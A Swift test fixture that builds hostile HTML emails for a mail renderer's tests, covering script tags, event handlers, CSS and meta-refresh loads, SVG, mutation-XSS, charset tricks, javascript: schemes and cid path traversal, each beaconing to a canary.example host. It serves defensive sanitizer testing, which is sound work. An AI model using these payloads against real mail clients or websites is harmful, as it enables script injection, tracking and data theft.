import Testing

/// Mails that try to run a script or to load something when they are shown. Each kind of attack is written in several
/// ways.
struct HostileHTMLMail: CustomTestStringConvertible, Sendable {
    let name: String
    let charset: String
    let html: [UInt8]

    var testDescription: String { name }

    /// As a message with that charset.
    var message: [UInt8] {
        Array(
            "Subject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=\(charset)\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
                .utf8) + html
    }

    /// In the templates, `URL` is an address on the attacker's host and `JS` a script. Both are different in each mail.
    private static func mails(_ kind: String, _ templates: [String], charset: String = "utf-8") -> [HostileHTMLMail] {
        templates.enumerated().map { index, template in
            let host = "\(kind)-\(index).canary.example"
            let html = template.replacing("JS", with: "window.canary=1;new Image().src='//\(host)/js'")
                .replacing("URL", with: "http://\(host)/x")
            return HostileHTMLMail(name: "\(kind)-\(index)", charset: charset, html: Array(html.utf8))
        }
    }

    static let all: [HostileHTMLMail] =
        scripts + handlers + styles + refreshes + forms + vectors + dataAddresses + frames + objects + hints + sources
        + media + mutations + unclosed + oddBytes + schemes + archives + foreignCIDs + wrappers

    private static let scripts = mails(
        "scripting",
        [
            "<script>JS</script>", "<SCRIPT>JS</SCRIPT>", "<script src='URL'></script>",
            "<script type=module>JS</script>",
            "<script\n>JS</script\n>", "<script/x>JS</script>", "<scr<script>ipt>JS</scr</script>ipt>",
            "<script>/*</script><script>*/JS</script>", "<svg><script>JS</script></svg>",
            "<script src=data:,JS></script>",
            "<b><script>JS</script>", "<<script>JS//<</script>", "<script>JS", "<!--><script>JS</script>-->",
            "<script type=importmap>{\"imports\":{\"a\":\"URL\"}}</script><script type=module>import 'a'</script>",
            "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"URL\"]}]}</script>",
        ])

    private static let handlers = mails(
        "handler",
        [
            "<img src=x onerror=\"JS\">", "<IMG SRC=x ONERROR='JS'>", "<body onload=\"JS\">",
            "<img/src=x/onerror=\"JS\">",
            "<details open ontoggle=\"JS\">x</details>", "<input autofocus onfocus=\"JS\">", "<svg onload=\"JS\">",
            "<img src=x\nonerror\n=\n\"JS\">", "<img src=x onerror=&#119;indow.canary=1>",
            "<style onload=\"JS\"></style>",
            "<video><source onerror=\"JS\"></video>", "<marquee onstart=\"JS\">x</marquee>",
            "<img src=x:x onerror\u{0B}=\"JS\">",
            "<div style='animation:a 1s' onanimationstart=\"JS\">x</div><style>@keyframes a{}</style>",
            "<img alt='\" onerror=\"JS' src=x>", "<img title=`x` src=`x` onerror=JS>",
            "<p id=x tabindex=1 autofocus onfocus=\"JS\">x",
            "<object data=x onerror=\"JS\"></object>", "<img src=\"x\"\"onerror=\"JS\">",
        ])

    private static let styles = mails(
        "style",
        [
            "<style>@import 'URL';</style>", "<style>@import url(URL);</style>",
            "<style>*{background:url(URL)}</style>",
            "<p style='background:url(URL)'>x", "<p style='background-image:URL(\"URL\")'>x",
            "<p style='background:u\\72l(URL)'>x",
            "<p style='width:expression(JS)'>x", "<p style='list-style-image:url(URL);display:list-item'>x",
            "<p style='content:url(URL)'>x", "<p style='background:image-set(\"URL\" 1x)'>x",
            "<p style='background:-webkit-image-set(url(URL) 1x)'>x", "<p style='background:/**/url(/**/URL)'>x",
            "<style>@font-face{font-family:a;src:url(URL)}p{font-family:a}</style><p>x",
            "<p style='cursor:url(URL),auto'>x",
            "<p style='border-image:url(URL)'>x", "<p style='mask:url(URL)'>x", "<p style='filter:url(URL#a)'>x",
            "<p style='color:red;}*{background:url(URL)'>x", "<p style='color:red&#59;background:url(URL)'>x",
            "<style><!--</style><p>x<style>--> *{background:url(URL)}</style>",
            "<p style='--a:url(URL);background:var(--a)'>x",
            "<p style='shape-outside:url(URL);float:left'>x", "<p style='background:src(\"URL\")'>x",
        ])

    private static let refreshes = mails(
        "refresh",
        [
            "<meta http-equiv=refresh content='0;url=URL'>", "<META HTTP-EQUIV=\"Refresh\" CONTENT=\"0; URL=URL\">",
            "<meta http-equiv=refresh content='0;url=data:text/html,<script>JS</script>'>",
            "<meta http-equiv=refresh content='0;url=javascript:JS'>",
            "<noscript><meta http-equiv=refresh content='0;url=URL'></noscript>",
            "<meta http-equiv=&#114;efresh content='0;url=URL'>", "</head><meta http-equiv='refresh' content='0;URL'>",
        ])

    private static let forms = mails(
        "form",
        [
            "<form action='URL'><input name=a autofocus></form>",
            "<form id=f action='URL'></form><script>f.submit()</script>",
            "<button formaction='URL'>x</button>",
            "<form><button formaction='javascript:JS' autofocus>x</button></form>",
            "<input type=image src='URL'>", "<isindex action='URL'>", "<form><keygen autofocus onfocus='JS'></form>",
        ])

    private static let vectors = mails(
        "svg",
        [
            "<svg><use href='URL#a'/></svg>", "<svg><use xlink:href='URL#a'/></svg>", "<svg><image href='URL'/></svg>",
            "<svg><image xlink:href='URL'/></svg>", "<svg><feImage href='URL'/></svg>",
            "<svg><a href='javascript:JS'><text>x</text></a></svg>",
            "<svg><animate onbegin='JS' attributeName=x dur=1s></svg>",
            "<svg><set attributeName=onmouseover to='JS'/></svg>",
            "<svg><foreignObject><img src='URL'></foreignObject></svg>", "<svg><style>@import 'URL'</style></svg>",
            "<svg><script href='URL'/></svg>", "<svg><script>JS</script>", "<svg><handler>JS</handler></svg>",
            "<math><mtext href='javascript:JS'>x</mtext></math>",
            "<math><maction actiontype=statusline xlink:href='javascript:JS'>x",
            "<svg><rect fill='url(URL#a)' width=9 height=9 /></svg>",
            "<svg><filter id=a><feImage xlink:href='URL'/></filter></svg>",
        ])

    private static let dataAddresses = mails(
        "data",
        [
            "<iframe src='data:text/html,<script>JS</script>'></iframe>",
            "<object data='data:text/html,<script>JS</script>'></object>",
            "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"URL\"/></svg>'>",
            "<img src='data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4='>",
            "<embed src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"JS\"/>'>",
            "<a href='data:text/html,<script>JS</script>'>x</a>",
            "<img src='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>",
        ])

    private static let frames = mails(
        "frame",
        [
            "<iframe src='URL'></iframe>", "<iframe srcdoc='<script>parent.canary=1</script><img src=URL>'></iframe>",
            "<frameset><frame src='URL'></frameset>", "<iframe srcdoc='&lt;img src=URL&gt;'></iframe>",
            "<iframe src='javascript:parent.canary=1'></iframe>", "<frameset onload='JS'>",
            "<portal src='URL'></portal>",
            "<fencedframe src='URL'></fencedframe>",
        ])

    private static let objects = mails(
        "object",
        [
            "<object data='URL'></object>", "<embed src='URL'>", "<applet code='URL'></applet>",
            "<object><param name=movie value='URL'></object>",
            "<object type=text/html data='URL'></object>", "<bgsound src='URL'>", "<xml src='URL'></xml>",
        ])

    private static let hints = mails(
        "hint",
        [
            "<link rel=prefetch href='URL'>", "<link rel=preconnect href='URL'>", "<link rel=dns-prefetch href='URL'>",
            "<link rel=stylesheet href='URL'>", "<link rel=preload as=image href='URL'>",
            "<link rel=prerender href='URL'>",
            "<link rel=icon href='URL'>", "<link rel=modulepreload href='URL'>", "<link rel=import href='URL'>",
            "<link rel=manifest href='URL'>", "<LINK REL='shortcut icon' HREF='URL'>", "<a ping='URL' href='URL'>x</a>",
            "<link rel='stylesheet' href='data:text/css,@import \"URL\"'>", "<html manifest='URL'>",
        ])

    private static let sources = mails(
        "source",
        [
            "<base href='URL'><img src=a>", "<img srcset='URL 1x'>", "<img src=x srcset='URL 1x, URL 2x'>",
            "<picture><source srcset='URL'><img src=x></picture>", "<img src='URL'>", "<image src='URL'>",
            "<img src='//canary.example/x'>",
            "<img lowsrc='URL' dynsrc='URL'>", "<img src='http:&#x2f;&#x2f;source.canary.example/x'>",
            "<input type=image src='URL'>",
            "<img src=' \tURL'>", "<img src='\\\\canary.example\\x'>", "<img src='file:///etc/hostname'>",
            "<img src='ht\ntp://a.canary.example/'>",
        ])

    private static let media = mails(
        "media",
        [
            "<video poster='URL'></video>", "<video src='URL' autoplay></video>", "<audio src='URL' autoplay></audio>",
            "<video><source src='URL'></video>", "<video><track default src='URL'></video>", "<body background='URL'>",
            "<table background='URL'><tr><td background='URL'>x</table>", "<td background='URL'>x",
            "<v:fill src='URL'/>",
        ])

    private static let mutations = mails(
        "mutation",
        [
            "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=URL onerror=JS&gt;'>",
            "<svg></p><style><a id='</style><img src=URL onerror=JS>'>",
            "<noscript><p title='</noscript><img src=URL onerror=JS>'>",
            "<template><p title='</template><img src=URL onerror=JS>'>",
            "<title><p title='</title><img src=URL onerror=JS>'>",
            "<textarea><p title='</textarea><img src=URL onerror=JS>'>",
            "<xmp><p title='</xmp><img src=URL onerror=JS>'>",
            "<noembed><p title='</noembed><img src=URL onerror=JS>'>",
            "<iframe><p title='</iframe><img src=URL onerror=JS>'>",
            "<form><math><mtext></form><form><mglyph><style></math><img src=URL onerror=JS>",
            "<select><template><img src=URL onerror=JS></template></select>",
            "<math><annotation-xml encoding='text/html'><img src=URL>",
            "<svg><desc><noscript><img title='</noscript><img src=URL onerror=JS>'>",
            "<plaintext><img src=URL onerror=JS>",
            "<p title='&lt;/p&gt;&lt;img src=URL onerror=JS&gt;'>x", "&lt;img src=URL onerror=JS&gt;",
            "<table><td><svg><p><style><img src=URL>",
            "<![CDATA[><img src=URL onerror=JS>]]>", "<!--><img src=URL onerror=JS>-->",
            "<!-- --!><img src=URL onerror=JS>-->",
        ])

    private static let unclosed = mails(
        "unclosed",
        [
            "<img src='URL' onerror='JS' ", "<img src='URL", "<script>JS", "<style>*{background:url(URL)}",
            "<a href='x><img src=URL>",
            "<p title=\"<img src=URL onerror=JS>", "<!-- <img src=URL>", "<iframe srcdoc='<img src=URL>'",
            "<textarea><img src=URL onerror=JS>",
        ])

    private static let oddBytes =
        mails(
            "byte",
            [
                "<scr\u{0}ipt>JS</scr\u{0}ipt>", "<img\u{0} src='URL'>", "<img src='URL'\u{0}onerror='JS'>",
                "<img\u{0C}src='URL'>",
                "<img\u{0B}src='URL'>", "<\u{0}img src='URL'>", "<img/\u{0}/src=URL>", "\u{FEFF}<img src='URL'>",
            ])
        + mails("utf7", ["+ADw-script+AD4-JS+ADw-/script+AD4-", "+ADw-img src=URL+AD4-"], charset: "utf-7")
        + mails("latin", ["<img src='URL' alt='\u{BC}script\u{BE}'>"], charset: "x-user-defined")
        + [
            HostileHTMLMail(
                name: "overlong", charset: "utf-8",
                html: [0xC0, 0xBC] + Array("img src='http://overlong.canary.example/' onerror='window.canary=1'".utf8)
                    + [0xC0, 0xBE]),
            HostileHTMLMail(
                name: "escape", charset: "iso-2022-jp",
                html: Array("<p title='\u{1B}$B' ><img src='http://escape.canary.example/'>\u{1B}(B".utf8)),
        ]

    private static let schemes = mails(
        "scheme",
        [
            "<iframe src='java\tscript:JS'></iframe>", "<a href='javascript:JS' autofocus>x</a>",
            "<a href=' &#x6A;avascript:JS'>x</a>",
            "<a href='java&Tab;script:JS'>x</a>", "<a href='java&NewLine;script&colon;JS'>x</a>",
            "<a href='vbscript:JS'>x</a>",
            "<a href='blob:URL'>x</a>", "<a href='view-source:URL'>x</a>", "<img src='javascript:JS'>",
            "<a href='\u{1}javascript:JS'>x</a>",
            "<a href='filesystem:URL'>x</a>", "<img src='&#106&#97&#118&#97script:JS'>",
        ])

    private static let archives = mails(
        "mhtml", ["<img src='mhtml:URL!a'>", "<iframe src='mhtml:URL!a'></iframe>", "<a href='mhtml:URL!a'>x</a>"])

    private static let foreignCIDs = mails(
        "cid",
        [
            "<img src='cid:../../etc/passwd'>", "<img src='cid:URL'>", "<img src='cid:script@x'>",
            "<iframe src='cid:html@x'></iframe>",
            "<img src='CID:%68tml@x'>", "<link rel=stylesheet href='cid:css@x'>",
            "<script src='cid:script@x'></script>",
        ])

    private static let wrappers = mails(
        "wrapper",
        [
            "</body></html><img src='URL'>", "</title><img src='URL'>", "<html><head><body onload='JS'>",
            "<!DOCTYPE x [<!ENTITY a SYSTEM 'URL'>]>&a;",
            "<?xml-stylesheet href='URL'?>", "<?php JS ?><img src='URL'>", "<!--[if true]><img src='URL'><![endif]-->",
            "<![if true]><img src='URL'><![endif]>",
            "<meta http-equiv=Content-Security-Policy content='report-uri URL'>",
            "<meta http-equiv=Set-Cookie content='a=b'><meta name=referrer content=unsafe-url>",
        ])
}
